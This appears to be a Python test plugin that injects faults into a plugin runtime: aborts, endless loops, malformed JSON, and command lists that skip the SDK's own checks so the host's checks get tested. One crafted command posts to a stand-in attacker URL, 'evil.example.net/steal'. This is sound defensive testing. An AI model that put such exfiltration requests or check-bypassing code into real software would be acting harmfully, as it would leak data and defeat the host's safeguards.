"""Chaos: a test plugin for the Service runtime.

Each `job` event's text says what the handler does: `ok`, `sleep:<seconds>` (busy-wait,
then ok), `error` (permanent error), `retry` (retryable error), `trap` (abort the guest),
`spin` (loop until the deadline stops it), `gate` (retryable error until an `open-gate`
event arrived), `commands:<set>` (return a crafted command list that skips the guest
PDK's own checks, so the host's checks are what is tested) and `status:<note>` (a
status_update command). Successful jobs emit `chaos.done` with the guest-side enter and
exit times, which proves from inside the guest that no two handler calls overlapped.

Every module is imported at module level: componentize-py keeps only the modules
imported while it builds the component.
"""

from __future__ import annotations

import os
import time
from dataclasses import dataclass
from typing import Any

from pdk import Event, Plugin, PluginError, RetryableError, Status, ToolError, ToolOutput, commands, log
from pdk._events import Emit, HttpRequest, LogCommand, StatusUpdate, WebSocketSend
import pdk._bridge as _bridge
import pdk._wire as _wire
from pdk._plugin import WireOutput, WireStatus
from pdk._wire import WireToolOutput
from pdk.limits import COMMAND_PAYLOAD_MAX_BYTES


class RawJson:
    """JSON text the guest PDK sends as-is (see `_raw_dumps`): the hostile documents
    of `raw_json`, which the PDK's own strict encoder would never produce."""

    def __init__(self, text: str) -> None:
        self.text = text


def raw_json(spec: str) -> str:
    """`deep:N` ([[...]] N levels), `deepobj:N` ({"a":{...}} N levels), `nan`, `inf`,
    `-inf`, `big` (1e999), `broken`, or `lit:<text>` as it is."""
    name, _, arg = spec.partition(":")
    if name == "deep":
        return "[" * int(arg) + "]" * int(arg)
    if name == "deepobj":
        return '{"a":' * int(arg) + "1" + "}" * int(arg)
    if name == "lit":
        return arg
    return {"nan": '{"x":NaN}', "inf": "[Infinity]", "-inf": '{"y":[-Infinity]}', "big": '{"n":1e999}', "broken": '{"x":'}[name]


_pdk_dumps = _wire.dumps


def _raw_dumps(value: Any) -> str:
    return value.text if isinstance(value, RawJson) else _pdk_dumps(value)


# Every PDK encoding of data, details and status goes through these names.
_wire.dumps = _raw_dumps
_bridge.dumps = _raw_dumps


class ChaosPlugin(Plugin):
    """A plugin whose `commands:*` jobs return outputs the PDK itself would refuse, and
    whose `raw:<where>:<doc>` jobs return a hostile JSON document (`raw_json`) as the
    output data (`data`), an emit's data (`emit`), a status_update's data (`status`),
    the error details (`error`) or the status export's data from now on (`export`)."""

    raw_status: str | None = None

    def run_event(self, event: Event) -> WireOutput:
        text = event.text or ""
        if text.startswith("commands:"):
            self.state.handled += 1
            return WireOutput(None, crafted_commands(text.split(":", 1)[1], event))
        if text.startswith("raw:"):
            return self._raw(*text.split(":", 2)[1:])
        return super().run_event(event)

    def _raw(self, where: str, spec: str) -> WireOutput:
        doc = raw_json(spec)
        ok = [Emit("chaos.raw", {"ok": True}, id="raw-ok")]
        if where == "data":
            return WireOutput(doc, ok)
        if where == "emit":
            return WireOutput(None, [Emit("chaos.raw", RawJson(doc), id="raw-emit"), *ok])
        if where == "status":
            return WireOutput(None, [StatusUpdate(True, RawJson(doc), id="raw-status"), *ok])
        if where == "error":
            raise PluginError("raw details", code="failed", details=RawJson(doc))
        if where == "export":
            ChaosPlugin.raw_status = doc
            return WireOutput(None, ok)
        raise PluginError(f"unknown raw target {where!r}", code="invalid_input")

    def run_status(self) -> WireStatus:
        if ChaosPlugin.raw_status is not None:
            return WireStatus(True, ChaosPlugin.raw_status)
        return super().run_status()

    @staticmethod
    def _tool_output(name: str, result: Any) -> WireToolOutput:
        if name == "raw_content" and isinstance(result, WireToolOutput):
            return result
        return Plugin._tool_output(name, result)


plugin = ChaosPlugin()


@dataclass
class Config:
    fail_start: bool = False
    trap_start: bool = False


@dataclass
class State:
    handled: int = 0
    gate_open: bool = False


@plugin.on_start
def start(config: Config) -> State:
    if config.trap_start:
        os.abort()
    if config.fail_start:
        raise PluginError("asked to fail on start", code="invalid_input")
    log.info("chaos started")
    return State()


@plugin.on_stop
def stop(state: State) -> None:
    log.info(f"chaos stopped after {state.handled} events")


@plugin.status
def status(state: State | None) -> Status:
    if state is None:
        return Status(healthy=False, data={"running": False})
    return Status(healthy=True, data={"handled": state.handled, "gate_open": state.gate_open})


@plugin.tool
def peek() -> dict[str, Any]:
    """The service state as the tool sees it."""
    state = plugin.state
    return {"handled": None if state is None else state.handled}


def _done(state: State, event: Event, entered_ns: int) -> list[object]:
    state.handled += 1
    return [
        commands.emit(
            "chaos.done",
            {"id": event.id, "text": event.text, "attempt": event.attempt, "enter_ns": entered_ns, "exit_ns": time.time_ns()},
        )
    ]


@plugin.on_event("jobs", kinds=["job"])
def on_job(state: State, event: Event) -> list[object]:
    entered_ns = time.time_ns()
    text = event.text or ""
    if text == "ok":
        return _done(state, event, entered_ns)
    if text.startswith("sleep:"):
        until = time.monotonic() + float(text.split(":", 1)[1])
        while time.monotonic() < until:
            pass
        return _done(state, event, entered_ns)
    if text == "error":
        raise PluginError("a permanent failure", code="failed")
    if text == "retry":
        raise RetryableError("a retryable failure")
    if text == "trap":
        os.abort()
    if text == "spin":
        n = 0
        while True:
            n += 1
    if text == "gate":
        if not state.gate_open:
            raise RetryableError("the gate is closed")
        return _done(state, event, entered_ns)
    if text == "open-gate":
        state.gate_open = True
        return _done(state, event, entered_ns)
    if text.startswith("status:"):
        state.handled += 1
        return [commands.status_update(False, {"note": text.split(":", 1)[1]})]
    raise PluginError(f"unknown job {text!r}", code="invalid_input")


@plugin.tool
def raw_content(doc: str, error: bool = False) -> ToolOutput:
    """Return `raw_json(doc)` as the content JSON (or, with `error`, as the error details)."""
    if error:
        raise ToolError("raw details", code="failed", details=RawJson(raw_json(doc)))
    return WireToolOutput(summary="raw", content_json=raw_json(doc))  # type: ignore[return-value]


@plugin.tool
def crash() -> str:
    """Abort the guest (a trap in a tool call)."""
    os.abort()


@plugin.on_event("jobs", kinds=["http_response"])
def on_response(state: State, event: Event) -> list[object]:
    state.handled += 1
    return [commands.emit("chaos.response", {"correlation_id": event.correlation_id, "data": event.json, "source": event.source})]


@plugin.on_event("jobs", kinds=["tick"])
def on_tick(state: State, event: Event) -> None:
    state.handled += 1


@plugin.on_event("chat")
def on_chat(state: State, event: Event) -> list[object]:
    state.handled += 1
    return [event.reply_text(f"echo: {event.text}")]


def crafted_commands(which: str, event: Event) -> list[Any]:
    """Command lists that break the rules on purpose (ids are fixed so tests can find them)."""
    if which == "mixed":
        return [
            Emit("chaos.mixed", {"n": 1}, id="emit-ok"),
            Emit("bad topic!", {"n": 2}, id="emit-bad-topic"),
            LogCommand("info", "a log line from chaos", id="log-ok"),
            LogCommand("warn", "x" * (COMMAND_PAYLOAD_MAX_BYTES + 1), id="log-too-long"),
            StatusUpdate(True, {"mood": "mixed"}, id="status-ok"),
            WebSocketSend("chat", text="hello", id="ws-declared"),
            WebSocketSend("nowhere", text="hello", id="ws-undeclared"),
            HttpRequest("POST", "https://api.example.com/v1/things", (), b"{}", id="http-granted"),
            HttpRequest("POST", "https://evil.example.net/steal", (), b"{}", id="http-undeclared"),
            HttpRequest("GET", "https://api.example.com/v1/things", (), None, id="http-method-not-granted"),
            Emit("chaos.mixed", {"n": 3}, id="emit-ok"),  # a duplicate id
            Emit("chaos.mixed", {"n": 4}, id=""),  # an empty id
        ]
    if which.startswith("flood:"):  # flood:N — N emits, far past the per-output count
        return [Emit("chaos.flood", {"n": i}, id=f"flood-{i}") for i in range(int(which.split(":", 1)[1]))]
    if which == "many":
        return [Emit("chaos.many", {"n": i}, id=f"many-{i}") for i in range(20)]
    raise PluginError(f"unknown command set {which!r}", code="invalid_input")
